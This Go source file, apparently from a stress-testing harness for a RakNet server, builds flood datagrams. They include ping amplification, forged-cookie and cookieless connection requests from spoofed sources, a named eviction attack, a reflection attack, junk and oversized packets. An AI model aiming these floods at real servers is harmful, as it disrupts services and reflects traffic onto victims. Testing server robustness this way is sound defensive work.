package attack

import (
	"encoding/binary"
	"math/rand/v2"
	"net/netip"
)

// A Shape builds the datagrams of a flood: it appends to b the n-th
// datagram (n counts from 0 for each source) that source src sends to
// target. rng belongs to the caller's goroutine; shapes that need
// randomness (forged cookies, junk) draw from it so a seed replays a
// flood.
type Shape func(b []byte, src, target netip.AddrPort, n int, rng *rand.Rand) []byte

// GUIDOf is the client GUID a spoofed source claims: fixed per address
// and port, negative as vanilla clients send them.
func GUIDOf(src netip.AddrPort) int64 {
	a := src.Addr().Unmap().As4()
	return int64(uint64(binary.BigEndian.Uint32(a[:]))<<16 | uint64(src.Port()) | 1<<63)
}

// Ping is an unconnected ping (0x01): 33 bytes that a listener answers
// with a pong carrying its whole MOTD.
func Ping() Shape {
	return func(b []byte, src, _ netip.AddrPort, n int, _ *rand.Rand) []byte {
		return AppendPing(b, int64(n), GUIDOf(src))
	}
}

// OCR1 is an OpenConnectionRequest1 of size bytes in all (RakNet
// protocol 11). A real probe of MTU m is m-28 bytes, 548 at least;
// OCR1MinSize (18) is below any.
func OCR1(size int) Shape {
	return func(b []byte, _, _ netip.AddrPort, _ int, _ *rand.Rand) []byte {
		return AppendOCR1(b, 11, max(size, OCR1MinSize))
	}
}

// CookieMode is what an OpenConnectionRequest2 of a flood carries where
// Reply1's cookie would be echoed.
type CookieMode uint8

const (
	// NoCookie: the layout without a cookie, as sent by a client that
	// skipped OCR1 or speaks protocol 10.
	NoCookie CookieMode = iota
	// ForgedCookie: a random cookie and security byte, as a client
	// echoing a Reply1 it never received.
	ForgedCookie
	// MixedCookies alternates NoCookie and ForgedCookie per datagram.
	MixedCookies
)

func (m CookieMode) String() string {
	switch m {
	case NoCookie:
		return "no-cookie"
	case ForgedCookie:
		return "forged-cookie"
	default:
		return "mixed-cookies"
	}
}

// OCR2 is an OpenConnectionRequest2 asking for MTU 1400 with the
// source's GUIDOf, sent without any OCR1 before it.
func OCR2(mode CookieMode) Shape { return OCR2GUID(mode, 0) }

// OCR2GUID is OCR2 naming guid (GUIDOf the source when 0): with the GUID
// of no live connection, from a live connection's address, it is the
// eviction attack.
func OCR2GUID(mode CookieMode, guid int64) Shape {
	return func(b []byte, src, target netip.AddrPort, n int, rng *rand.Rand) []byte {
		g := guid
		if g == 0 {
			g = GUIDOf(src)
		}
		cookie := mode == ForgedCookie || (mode == MixedCookies && n%2 == 1)
		var c uint32
		if cookie {
			c = rng.Uint32()
		}
		return AppendOCR2(b, cookie, c, target, 1400, g)
	}
}

// ConnectionRequest is datagram 0 of a connection holding a Reliable
// ConnectionRequest: after an OCR2 from the same source it makes the
// listener send ConnectionRequestAccepted, resent until acknowledged, to
// the source (the reflection attack).
func ConnectionRequest() Shape {
	return func(b []byte, src, _ netip.AddrPort, n int, _ *rand.Rand) []byte {
		m := AppendConnectionRequest(make([]byte, 0, 18), GUIDOf(src), int64(n))
		return AppendDatagram(b, 0, Frame{Reliability: Reliable, Payload: m})
	}
}

// NewIncomingConnection is datagram number holding a ReliableOrdered
// NewIncomingConnection (reliable index number, order index 0): after an
// OCR2 from the same source, with no ConnectionRequest, it must not make
// an accepted connection.
func NewIncomingConnection(number uint32) Shape {
	return func(b []byte, _, target netip.AddrPort, _ int, _ *rand.Rand) []byte {
		m := AppendNewIncomingConnection(make([]byte, 0, 200), target, 0, 0)
		return AppendDatagram(b, number, Frame{Reliability: ReliableOrdered, ReliableIndex: number, Payload: m})
	}
}

// Junk alternates random bytes of 1 to maxSize bytes (any first byte:
// offline IDs, data flags, nonsense) and well-formed data datagrams of up
// to maxSize bytes with a random number and one ReliableOrdered frame of
// random payload, as if from a connection the listener never had.
func Junk(maxSize int) Shape {
	maxSize = max(maxSize, 1)
	return func(b []byte, _, _ netip.AddrPort, n int, rng *rand.Rand) []byte {
		if n%2 == 0 {
			return appendRandom(b, 1+rng.IntN(maxSize), rng)
		}
		p := appendRandom(nil, 1+rng.IntN(max(1, min(maxSize-datagramHeaderSize-frameHeaderSize(ReliableOrdered, false), maxFramePayload))), rng)
		f := Frame{Reliability: ReliableOrdered, ReliableIndex: rng.Uint32() & 0xffffff, OrderIndex: rng.Uint32() & 0xffffff, Payload: p}
		return AppendDatagram(b, rng.Uint32()&0xffffff, f)
	}
}

// MaxUDPPayload is the largest IPv4 UDP payload: 65,535 less the IP and
// UDP headers.
const MaxUDPPayload = 65507

// Big is a datagram of size bytes (capped at MaxUDPPayload) that starts
// like a data datagram (0x84 and a number) and continues with random
// bytes: far above any MTU, it should be dropped before it is decoded.
func Big(size int) Shape {
	size = min(max(size, datagramHeaderSize), MaxUDPPayload)
	return func(b []byte, _, _ netip.AddrPort, n int, rng *rand.Rand) []byte {
		b = appendU24(append(b, dataFlags), uint32(n))
		return appendRandom(b, size-datagramHeaderSize, rng)
	}
}

// Seq makes each source send shapes in turn: its n-th datagram is
// shapes[n%len(shapes)]'s n/len(shapes)-th. Seq(OCR2(NoCookie),
// ConnectionRequest()) with Count twice the sources sends each source's
// OCR2, then each source's ConnectionRequest.
func Seq(shapes ...Shape) Shape {
	return func(b []byte, src, target netip.AddrPort, n int, rng *rand.Rand) []byte {
		return shapes[n%len(shapes)](b, src, target, n/len(shapes), rng)
	}
}

// appendRandom appends n random bytes.
func appendRandom(b []byte, n int, rng *rand.Rand) []byte {
	start := len(b)
	for len(b)-start < n {
		b = binary.LittleEndian.AppendUint64(b, rng.Uint64())
	}
	return b[:start+n]
}
